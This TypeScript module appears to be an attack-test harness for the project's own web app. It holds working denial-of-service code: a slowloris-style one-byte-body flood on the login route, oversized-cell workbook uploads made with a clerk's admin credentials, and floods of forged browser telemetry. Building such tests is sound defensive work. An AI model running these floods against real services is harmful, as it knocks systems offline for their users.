import { routes } from 'contracts';
import { createBrowserClient, cookieHeader } from '../site/customer.js';
import { staffSecrets } from '../site/staff.js';
import { oneCellWorkbook } from './hostile-workbook.js';
import { repeat, attackDurationMs, buildRawPost, sendRaw, type AttackTarget } from './send.js';

interface Clerk {
  cookie: string;
  token: string;
}

export async function signInImportClerk(url: string, dataDir: string): Promise<Clerk> {
  const staff = await createBrowserClient(url);
  const { ADMIN_EMAIL: email, ADMIN_PASSWORD: password } = staffSecrets(dataDir);
  const { status } = await staff.send('POST', routes.login.path, { body: { email, password } });
  if (status !== 200) throw new Error(`The sign-in of the clerk returned status ${status}`);
  return { cookie: cookieHeader(staff.cookies), token: staff.cookies['XSRF-TOKEN'] ?? '' };
}

/** Sends dry-run imports of workbooks whose only cell is outside the table limits. */
export async function uploadOversizedTables({ url, clerk }: AttackTarget) {
  if (!clerk) return;
  for (const cell of ['ZZZZZZZZ1', 'XFD1048576', 'A999999999']) {
    const body = new FormData();
    body.set('kind', 'products');
    body.set('isDryRun', 'true');
    body.set('table', new Blob([new Uint8Array(await oneCellWorkbook(cell))]), 'bad.xlsx');
    const headers = { cookie: clerk.cookie, 'x-xsrf-token': clerk.token };
    await fetch(url + routes.importTable.path, { method: 'POST', headers, body })
      .then((response) => response.text())
      .catch(() => undefined);
  }
}

const oneByte = `POST ${routes.login.path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 50\r\n\r\n{`;

/** Opens 400 connections a second. Each sends the headers and only the first byte of a request body. */
export const floodOneByteBodies = (target: AttackTarget) =>
  repeat(attackDurationMs / 20, 20, () => {
    for (let times = 0; times < 8; times += 1) sendRaw(target, oneByte, 2000);
  });

export async function sendForgedBrowserReports(target: AttackTarget) {
  const response = await fetch(`${target.url}/registry.json`).catch(() => undefined);
  const registry: unknown = await response?.json().catch(() => undefined);
  const live = (registry ?? {}) as Record<string, { version: string }>;
  const reports = Object.entries(live).map(([part, { version: release }]) => ({
    failures: [{ part, release, kind: 'thrown', times: 1000 }],
    vitals: [{ part, release, name: 'LCP', value: 600_000 }],
  }));
  const { path } = routes.reportFromBrowser;
  await repeat(attackDurationMs / 50, 50, () => {
    for (const report of reports) sendRaw(target, buildRawPost(path, report), 1000);
  });
}
